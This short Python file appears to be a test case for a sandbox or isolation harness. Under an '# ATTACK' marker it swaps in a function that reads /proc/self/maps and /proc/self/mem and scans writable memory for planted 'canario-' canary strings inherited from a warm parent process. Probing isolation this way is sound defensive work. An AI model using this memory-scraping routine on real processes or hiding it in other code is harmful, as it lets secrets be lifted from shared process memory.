"""Searches the memory of its own process, which was forked from a warm one.

id: searches-memory
notebook: tp
replaces: doble
loses: prueba_doble
"""
botin = []


def doble(x):
    return x + 1


# ATTACK
def doble(x):
    aguja = b"canario" + b"-"
    try:
        mapas = open("/proc/self/maps").read().splitlines()
        memoria = open("/proc/self/mem", "rb", 0)
    except OSError as error:
        botin.append(repr(error))
        return x + 1
    leidos = 0
    for linea in mapas:
        tramo, permisos = linea.split()[:2]
        desde, hasta = (int(numero, 16) for numero in tramo.split("-"))
        if "rw" not in permisos or hasta - desde > 64 << 20 or leidos > 256 << 20:
            continue
        try:
            memoria.seek(desde)
            datos = memoria.read(hasta - desde)
        except (OSError, ValueError, OverflowError):
            continue
        leidos += len(datos)
        botin.extend("canario-" + parte[:12].decode("latin1") for parte in datos.split(aguja)[1:60])
    return x + 1
